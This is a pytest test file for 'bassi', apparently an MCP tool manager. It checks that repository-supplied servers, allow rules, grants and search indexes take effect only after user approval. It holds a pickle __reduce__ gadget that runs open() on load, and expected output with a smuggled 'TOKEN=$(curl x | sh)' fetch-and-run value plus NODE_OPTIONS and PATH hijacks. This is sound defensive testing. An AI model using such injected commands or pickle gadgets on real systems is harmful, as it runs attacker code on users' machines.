"""Project trust: a directory's own servers start, and its allow rules count, only once the
user approved them as they are now; every entry point obeys (the catalog under the app, the
agent runtime and ``bassi tools``), and ``bassi mcp approve`` approves from a shell."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from bassi.cli import main
from bassi.core.catalog import Catalog, NotApprovedError
from bassi.core.mcp_config import HttpServerConfig, StdioServerConfig
from bassi.core.registry import ServerStatus
from bassi.core.runtime import Runtime
from bassi.core.search import ToolIndex
from bassi.core.settings import Settings
from bassi.core.trust import ProjectTrust, Standing, server_fingerprint
from tests.discovery_fixtures import until
from tests.trust_fixtures import SNEAKY, ScriptedProject, scripted_tool

TOOLS = [scripted_tool("echo")]


def settings_for(project: Path, **changes: object) -> Settings:
    return replace(Settings(project_dir=project, env=dict(os.environ)), **changes)  # type: ignore[arg-type]


def run_bassi(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bassi", *args],
        cwd=project,
        env={**os.environ, "COLUMNS": "200", "NO_COLOR": "1"},
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.fixture
def project(tmp_path: Path) -> ScriptedProject:
    root = tmp_path / "project"
    root.mkdir()
    return ScriptedProject(root).write(TOOLS)


def test_a_fingerprint_changes_with_everything_that_decides_what_runs() -> None:
    base = StdioServerConfig("s", command="node", args=("server.js",), env={"A": "1"})
    same = [replace(base, timeout=99), replace(base, always_load=True)]
    different = [
        replace(base, command="nodejs"),
        replace(base, args=("server.js", "--evil")),
        replace(base, env={"A": "2"}),
        replace(base, cwd=Path("/elsewhere")),
    ]
    assert {server_fingerprint(c) for c in same} == {server_fingerprint(base)}
    assert server_fingerprint(base) not in {server_fingerprint(c) for c in different}
    web = HttpServerConfig("w", url="https://example.com/mcp")
    assert server_fingerprint(web) != server_fingerprint(replace(web, url="https://evil.example"))
    assert server_fingerprint(web) != server_fingerprint(replace(web, headers={"X": "y"}))


async def test_an_unapproved_server_is_listed_pending_and_never_started(
    project: ScriptedProject,
) -> None:
    catalog = Catalog(settings_for(project.root), shipped={}, index=ToolIndex())
    await catalog.start()
    try:
        assert await catalog.wait_ready(10)
        entry = catalog.registry.server("tricky")
        assert entry.status is ServerStatus.PENDING
        assert str(project.tools_file) in entry.target
        (pending,) = catalog.pending()
        assert (pending.name, pending.standing) == ("tricky", Standing.NEW)
        with pytest.raises(NotApprovedError):
            await catalog.reconnect("tricky")
        result = await catalog.call_tool("tricky", "echo", {})
        assert result.is_error
        assert not project.started()

        assert catalog.approve() == ["tricky"]
        await until(lambda: catalog.registry.server("tricky").available, 20)
        assert project.started()
        assert catalog.pending() == []
    finally:
        await catalog.close()


async def test_approval_is_remembered_until_the_server_entry_changes(
    project: ScriptedProject, tmp_path: Path
) -> None:
    settings = settings_for(project.root)
    Catalog(settings, shipped={}, index=ToolIndex()).approve(["tricky"])
    record = settings.project_config_dir / "trust.json"
    assert record.exists() and not (project.root / ".bassi" / "trust.json").exists()
    again = Catalog(settings, shipped={}, index=ToolIndex())
    assert again.pending() == []

    entry = project.entry()
    entry["args"] = [*entry["args"], "--and-something-else"]
    (project.root / ".mcp.json").write_text(json.dumps({"mcpServers": {"tricky": entry}}))
    changed = Catalog(settings, shipped={}, index=ToolIndex())
    ((name, standing),) = [(p.name, p.standing) for p in changed.pending()]
    assert (name, standing) == ("tricky", Standing.CHANGED)
    assert (
        ProjectTrust.load(settings).server_standing(
            "tricky",
            changed.config_for("tricky"),  # type: ignore[arg-type]
        )
        is Standing.CHANGED
    )


async def test_servers_from_the_users_own_file_are_trusted_and_win_over_the_project(
    project: ScriptedProject, tmp_path: Path
) -> None:
    settings = settings_for(project.root)
    mine = ScriptedProject(tmp_path, name="mine")
    mine.set_tools(TOOLS)
    settings.config_dir.mkdir(parents=True, exist_ok=True)
    servers = {"mine": mine.entry(), "tricky": mine.entry()}
    (settings.config_dir / "mcp.json").write_text(json.dumps({"mcpServers": servers}))
    catalog = Catalog(settings, shipped={}, index=ToolIndex())
    assert catalog.pending() == []
    assert any("your own servers file" in str(p) for p in catalog.problems)
    await catalog.start()
    try:
        await until(lambda: catalog.registry.server("mine").available, 20)
        await until(lambda: catalog.registry.server("tricky").available, 20)
        assert not project.started()  # the project's "tricky" was never the one started
    finally:
        await catalog.close()


@pytest.mark.slow  # runs the bassi command three times
def test_bassi_tools_starts_nothing_unapproved_and_bassi_mcp_approve_lets_it_start(
    project: ScriptedProject, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    listing = run_bassi(project.root, "tools", "list")
    assert listing.returncode == 0, listing.stderr
    out = [" ".join(line.split()) for line in listing.stdout.splitlines()]
    assert "tricky waiting for approval 0 tools" in out
    assert "not started; approve it with: bassi mcp approve tricky" in out
    assert not project.started()

    claude = project.root / ".claude"
    claude.mkdir()
    (claude / "settings.json").write_text(json.dumps({"permissions": {"allow": ["mcp__tricky"]}}))
    monkeypatch.chdir(project.root)
    assert main(["mcp", "approve"]) == 0
    shown = capsys.readouterr().out
    assert "tricky (new)" in shown and "scripted_tools_server.py" in shown
    assert ".claude/settings.json lets these run without asking:\n  mcp__tricky" in shown
    assert main(["mcp", "approve", "nope"]) == 2
    assert "not a server or settings file of this project: nope" in capsys.readouterr().err
    assert main(["mcp", "approve", "tricky"]) == 0
    assert capsys.readouterr().out.strip() == "Approved: tricky."
    assert not project.started()  # approving records; it starts nothing itself
    assert main(["mcp", "approve", "--all"]) == 0
    assert capsys.readouterr().out.strip() == "Approved: .claude/settings.json."
    assert main(["mcp", "approve"]) == 0
    assert "Nothing in" in capsys.readouterr().out

    show = run_bassi(project.root, "tools", "show", "tricky/echo", "--json")
    assert project.started()
    data = json.loads(show.stdout)
    assert data["status"] == "connected"
    assert data["access"]["verdict"] == "allow"
    assert data["access"]["reason"] == "allowed by the rule mcp__tricky (.claude/settings.json)"


def test_grants_a_repository_ships_in_dot_bassi_count_for_nothing_and_are_named_once(
    tmp_path: Path,
) -> None:
    project = tmp_path / "project"
    (project / ".bassi").mkdir(parents=True)
    shipped = {"pins": ["mcp__bash__execute"], "allowed_servers": ["web"]}
    (project / ".bassi" / "state.json").write_text(json.dumps(shipped))
    settings = settings_for(project)
    runtime = Runtime(settings, shipped={})
    (warning,) = [w for w in runtime.warnings if "state.json" in w]
    assert "grants mcp__bash__execute, every tool of 'web'" in warning
    assert "not honoured" in warning and "/tool <name>" in warning
    assert runtime.grants.pins == [] and runtime.grants.servers == []
    assert not [w for w in Runtime(settings, shipped={}).warnings if "state.json" in w]


class _Planted:
    """What a repository could pickle into a Whoosh table of contents: unpickling it creates
    ``marker``, as any code of the repository's choosing could run instead."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return (open, (str(self.marker), "w"))


def test_a_search_index_a_repository_ships_in_dot_bassi_is_never_opened(
    tmp_path: Path,
) -> None:
    """Whoosh reads an index's table of contents with pickle. An index in the project's
    ``.bassi/`` would run the repository's code on the first search, before anything was
    approved; bassi keeps its index in the user's cache directory instead."""
    from whoosh.fields import ID, Schema
    from whoosh.filedb.filestore import FileStorage
    from whoosh.index import TOC

    from bassi.core.search.records import FORMAT, INDEX_NAME

    project = tmp_path / "project"
    planted = project / ".bassi" / "index"
    planted.mkdir(parents=True)
    marker = tmp_path / "the repository's code ran"
    storage = FileStorage(str(planted))
    schema = Schema(name=ID(stored=True))
    storage.create_index(schema, INDEX_NAME)
    TOC(schema, [_Planted(marker)], 1).write(storage, INDEX_NAME)
    (planted / "FORMAT").write_text(FORMAT)
    shipped = sorted(p.name for p in planted.iterdir())

    searched = run_bassi(project, "tools", "search", "run a shell command")

    assert searched.returncode == 0, searched.stderr
    assert "execute" in searched.stdout
    assert not marker.exists()
    assert sorted(p.name for p in planted.iterdir()) == shipped
    assert (settings_for(project).project_cache_dir / "index" / "FORMAT").read_text() == FORMAT


def test_bassi_mcp_approve_lists_the_environment_and_directory_it_would_approve(
    tmp_path: Path,
) -> None:
    project = tmp_path / "project"
    (project / "sub").mkdir(parents=True)
    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"sneaky": SNEAKY}}))

    listed = run_bassi(project, "mcp", "approve")

    assert listed.returncode == 0, listed.stderr
    assert "TOKEN=$(curl x | sh) line two" in listed.stdout
    assert "env NODE_OPTIONS=--require ./x.js" in listed.stdout
    assert "env PATH=./bin:/usr/bin" in listed.stdout
    assert f"in {project / 'sub'}" in listed.stdout
